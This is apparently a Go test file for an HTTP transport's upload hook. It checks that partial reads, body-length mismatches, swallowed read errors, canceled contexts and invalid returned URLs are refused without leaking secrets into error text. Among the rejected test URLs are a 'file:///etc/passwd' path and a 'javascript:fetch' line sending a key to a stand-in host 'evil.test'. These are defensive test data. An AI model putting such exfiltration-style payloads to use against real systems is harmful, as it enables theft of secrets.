package composiohttp

import (
	"bytes"
	"cmp"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"reflect"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// uploadBig is the body of the Upload tests: over MaxInlineBody, so it
// goes through Transport.Upload. Read-only, shared by the tests.
var uploadBig = bytes.Repeat([]byte("0123456789abcdef"), MaxInlineBody/16+8)

// uploadReads is an UploadFunc that reads n bytes of the body (-1: to
// the end), ignoring read errors as a careless hook would, and returns
// url.
func uploadReads(n int64, url string) UploadFunc {
	return func(_ context.Context, body io.Reader, _ int64, _ string) (string, error) {
		if n < 0 {
			io.Copy(io.Discard, body)
		} else {
			io.CopyN(io.Discard, body, n)
		}
		return url, nil
	}
}

// uploadStrict reads the body to the end and fails on a read error, as a
// careful hook does.
func uploadStrict(_ context.Context, body io.Reader, _ int64, _ string) (string, error) {
	if _, err := io.Copy(io.Discard, body); err != nil {
		return "", err
	}
	return "https://uploads.test/obj?X-Amz-Signature=abc", nil
}

// failingReader yields r, then err instead of io.EOF.
type failingReader struct {
	r   io.Reader
	err error
}

func (f *failingReader) Read(p []byte) (int, error) {
	n, err := f.r.Read(p)
	if err == io.EOF {
		err = f.err
	}
	return n, err
}

var errDiskGone = errors.New("disk gone")

// The Upload path checks what the UploadFunc did (how much it
// read, what URL it returned), the body's real length against its
// ContentLength, and the context, before anything goes to the proxy; a
// refused call closes the caller's body exactly once and leaves the
// request untouched.
func TestUploadRefused(t *testing.T) {
	t.Parallel()
	n := int64(len(uploadBig))
	type tcase struct {
		name    string
		body    func() io.Reader // nil: uploadBig
		clen    int64            // ContentLength; 0: len(body), -1 unknown
		upload  UploadFunc
		ctx     func(*testing.T) context.Context // nil: background
		wantIs  []error                          // each must match with errors.Is
		secret  string                           // must not appear in the error
		noCalls bool                             // the UploadFunc must not be called
		read    *int64                           // UploadError.Read, if checked
		code    Code                             // CodeOf(err); 0: CodeUnknown
	}
	cases := []tcase{
		// The UploadFunc reads only part of the body.
		{name: "reads half, known size", upload: uploadReads(n/2, "https://uploads.test/1"), read: i64(n / 2)},
		{name: "reads nothing, known size", upload: uploadReads(0, "https://uploads.test/1"), read: i64(0)},
		{name: "reads all but one byte, known size", upload: uploadReads(n-1, "https://uploads.test/1"), read: i64(n - 1)},
		{name: "reads half, unknown size", clen: -1, upload: uploadReads(n/2, "https://uploads.test/1"), read: i64(n / 2)},
		{name: "reads only the inline part, unknown size", clen: -1, upload: uploadReads(MaxInlineBody+1, "https://uploads.test/1"), read: i64(MaxInlineBody + 1)},
		// The body's length differs from its ContentLength.
		{name: "body longer than ContentLength, careless hook", clen: n - 10, upload: uploadReads(-1, "https://uploads.test/1"), wantIs: []error{ErrBadRequest}, code: CodeInvalidRequest},
		{name: "body longer than ContentLength, careful hook", clen: n - 10, upload: uploadStrict, wantIs: []error{ErrBadRequest}, code: CodeInvalidRequest},
		{name: "body longer than ContentLength, hook reads exactly ContentLength", clen: n - 10, upload: uploadReads(n-10, "https://uploads.test/1"), wantIs: []error{ErrBadRequest}, code: CodeInvalidRequest},
		{name: "body shorter than ContentLength, careless hook", clen: n + 10, upload: uploadReads(-1, "https://uploads.test/1"), wantIs: []error{ErrBadRequest}, code: CodeInvalidRequest},
		{name: "body shorter than ContentLength, careful hook", clen: n + 10, upload: uploadStrict, wantIs: []error{ErrBadRequest}, code: CodeInvalidRequest},
		{name: "body far shorter than ContentLength", body: func() io.Reader { return strings.NewReader("tiny") }, clen: n, upload: uploadReads(-1, "https://uploads.test/1"), wantIs: []error{ErrBadRequest}, code: CodeInvalidRequest},
		// A read error the UploadFunc swallows.
		{name: "read error ignored by the hook", body: func() io.Reader { return &failingReader{bytes.NewReader(uploadBig), errDiskGone} }, clen: n, upload: uploadReads(-1, "https://uploads.test/1"), wantIs: []error{errDiskGone}},
		{name: "read error, unknown size", body: func() io.Reader { return &failingReader{bytes.NewReader(uploadBig), errDiskGone} }, clen: -1, upload: uploadReads(-1, "https://uploads.test/1"), wantIs: []error{errDiskGone}},
		// The context is done before Upload would be called.
		{name: "context canceled", upload: uploadStrict, ctx: canceledCtx, wantIs: []error{context.Canceled}, noCalls: true, code: CodeCanceled},
		{name: "context canceled, unknown size", clen: -1, upload: uploadStrict, ctx: canceledCtx, wantIs: []error{context.Canceled}, noCalls: true, code: CodeCanceled},
		{name: "deadline exceeded", upload: uploadStrict, ctx: func(t *testing.T) context.Context {
			ctx, cancel := context.WithDeadline(context.Background(), time.Unix(1, 0))
			t.Cleanup(cancel)
			return ctx
		}, wantIs: []error{context.DeadlineExceeded}, noCalls: true, code: CodeDeadlineExceeded},
	}
	// The UploadFunc returns something that is not an absolute http(s)
	// URL. The error must not show it: a presigned URL carries its
	// signature in the query.
	for _, u := range []string{
		"",
		"file:///etc/passwd?sig=SECRETSIG",
		"ftp://user:SECRETPW@files.test/obj",
		"/relative/path?X-Amz-Signature=SECRETSIG",
		"uploads.test/obj?token=SECRETTOKEN",
		"javascript:fetch('//evil.test/?k=SECRETKEY')",
		"https:///no-host?sig=SECRETSIG",
		"https://",
		"http://[::1?sig=SECRETSIG",
		"data:text/plain;base64,U0VDUkVU",
		" https://uploads.test/obj?sig=SECRETSIG",
	} {
		cases = append(cases, tcase{name: "URL " + u, upload: uploadReads(-1, u), secret: "SECRET", read: i64(n)})
	}
	// The UploadFunc's own error quotes the presigned URL it failed to PUT
	// to, as net/http's client does (*url.Error): its signature must not
	// reach the error's text (a log line, a span's status).
	for _, u := range []string{
		"https://bucket.s3.amazonaws.com/obj?X-Amz-Credential=AKIASECRETCRED&X-Amz-Signature=SECRETSIG",
		"https://storage.googleapis.com/b/o?X-Goog-Signature=SECRETSIG",
		"https://acct.blob.core.windows.net/c/b?sv=2024&sig=SECRETSIG",
		"https://user:SECRETPW@uploads.test/obj",
	} {
		putErr := &url.Error{Op: "Put", URL: u, Err: errors.New("connection reset by peer")}
		cases = append(cases, tcase{name: "UploadFunc error quoting " + u, wantIs: []error{putErr},
			upload: func(_ context.Context, body io.Reader, _ int64, _ string) (string, error) {
				io.Copy(io.Discard, body)
				return "", fmt.Errorf("storing the body: %w", putErr)
			}, secret: "SECRET"})
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			p := &stubProxy{reply: okReply}
			tr := newTestTransport(p)
			var calls atomic.Int32
			tr.Upload = func(ctx context.Context, body io.Reader, size int64, ct string) (string, error) {
				calls.Add(1)
				return tc.upload(ctx, body, size, ct)
			}
			var src io.Reader = bytes.NewReader(uploadBig)
			if tc.body != nil {
				src = tc.body()
			}
			cb := &countingBody{r: src}
			ctx := context.Background()
			if tc.ctx != nil {
				ctx = tc.ctx(t)
			}
			req, _ := http.NewRequestWithContext(ctx, http.MethodPut, "https://www.googleapis.com/upload/drive/v3/files", nil)
			req.Body = cb
			req.ContentLength = cmpOr(tc.clen, n)
			req.Header.Set("Content-Type", "video/mp4")
			before := snap(req)

			resp, err := tr.RoundTrip(req)
			if err == nil {
				resp.Body.Close()
				t.Fatal("RoundTrip succeeded; want an error")
			}
			if resp != nil {
				t.Errorf("a response with the error: %v", resp)
			}
			for _, target := range tc.wantIs {
				if !errors.Is(err, target) {
					t.Errorf("err = %v; want it to match %v", err, target)
				}
			}
			var ue *UploadError
			if tc.noCalls { // refused before Upload: the context's error, wrapped
				if errors.Is(err, ErrUpload) || errors.As(err, &ue) {
					t.Errorf("err = %v; want no *UploadError, Upload was not called", err)
				}
			} else {
				if !errors.Is(err, ErrUpload) || !errors.As(err, &ue) {
					t.Fatalf("err = %v (%T); want an *UploadError matching ErrUpload", err, err)
				}
				if want := cmpOr(tc.clen, n); ue.Size != want {
					t.Errorf("UploadError.Size = %d, want %d", ue.Size, want)
				}
				if tc.read != nil && ue.Read != *tc.read {
					t.Errorf("UploadError.Read = %d, want %d", ue.Read, *tc.read)
				}
			}
			if got, want := CodeOf(err), cmp.Or(tc.code, CodeUnknown); got != want {
				t.Errorf("CodeOf = %v, want %v", got, want)
			}
			if !strings.HasPrefix(err.Error(), "composiohttp: ") {
				t.Errorf("err = %q; want the composiohttp: prefix", err)
			}
			if tc.secret != "" && strings.Contains(err.Error(), tc.secret) {
				t.Errorf("the error shows the returned URL: %v", err)
			}
			if p.calls != 0 {
				t.Errorf("proxy called %d times", p.calls)
			}
			if got := calls.Load(); tc.noCalls && got != 0 {
				t.Errorf("Upload called %d times", got)
			}
			if got := cb.closes.Load(); got != 1 {
				t.Errorf("request body closed %d times, want exactly 1", got)
			}
			if after := snap(req); !reflect.DeepEqual(before, after) {
				t.Errorf("request modified:\nbefore %+v\nafter  %+v", before, after)
			}
		})
	}
}

// The UploadFunc's contract kept: the call goes through, the URL is sent
// as binary_body.url, and the body is closed once.
func TestUploadAccepted(t *testing.T) {
	t.Parallel()
	n := int64(len(uploadBig))
	cases := []struct {
		name   string
		clen   int64 // 0: len(body), -1 unknown
		upload UploadFunc
		url    string
	}{
		{"reads to EOF, known size", 0, uploadStrict, "https://uploads.test/obj?X-Amz-Signature=abc"},
		{"reads to EOF, unknown size", -1, uploadStrict, "https://uploads.test/obj?X-Amz-Signature=abc"},
		{"reads exactly the size, never sees EOF", 0, uploadReads(n, "https://uploads.test/2"), "https://uploads.test/2"},
		{"reads exactly the body, unknown size, never sees EOF", -1, uploadReads(n, "https://uploads.test/3"), "https://uploads.test/3"},
		{"http URL, upper-case scheme", 0, uploadReads(-1, "HTTP://uploads.test:8080/4"), "HTTP://uploads.test:8080/4"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			p := &stubProxy{reply: okReply}
			tr := newTestTransport(p)
			var got atomic.Int64
			tr.Upload = func(ctx context.Context, body io.Reader, size int64, ct string) (string, error) {
				if want := cmpOr(tc.clen, n); size != want {
					t.Errorf("size %d, want %d", size, want)
				}
				return tc.upload(ctx, &countReader{r: body, n: &got}, size, ct)
			}
			cb := &countingBody{r: bytes.NewReader(uploadBig)}
			req, _ := http.NewRequest(http.MethodPut, "https://www.googleapis.com/upload/drive/v3/files", nil)
			req.Body = cb
			req.ContentLength = cmpOr(tc.clen, n)
			resp, err := tr.RoundTrip(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if got.Load() != n {
				t.Errorf("the hook read %d bytes, want %d", got.Load(), n)
			}
			if bb, _ := p.envelope(t)["binary_body"].(map[string]any); bb["url"] != tc.url {
				t.Errorf("binary_body = %v", bb)
			}
			if got := cb.closes.Load(); got != 1 {
				t.Errorf("request body closed %d times, want exactly 1", got)
			}
		})
	}
}

type countReader struct {
	r io.Reader
	n *atomic.Int64
}

func (c *countReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n.Add(int64(n))
	return n, err
}

func canceledCtx(*testing.T) context.Context {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	return ctx
}

func i64(v int64) *int64 { return &v }

func cmpOr(v, def int64) int64 {
	if v == 0 {
		return def
	}
	return v
}
